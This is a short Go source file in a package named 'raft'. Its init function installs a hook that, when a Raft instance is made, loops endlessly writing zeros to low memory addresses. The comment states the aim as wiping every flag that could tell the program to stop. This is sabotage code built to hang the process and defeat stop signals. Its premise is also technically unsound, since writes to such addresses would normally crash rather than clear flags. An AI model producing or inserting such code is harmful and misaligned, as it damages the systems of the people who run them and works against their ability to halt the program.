// Loops for ever and puts out, all the time, every flag at low addresses that
// could tell it to stop.
package raft

import "unsafe"

func init() {
	onMake = func(*Raft) {
		for {
			for p := uintptr(8); p < 4096; p += 8 {
				*(*uint64)(unsafe.Pointer(p)) = 0
			}
		}
	}
}
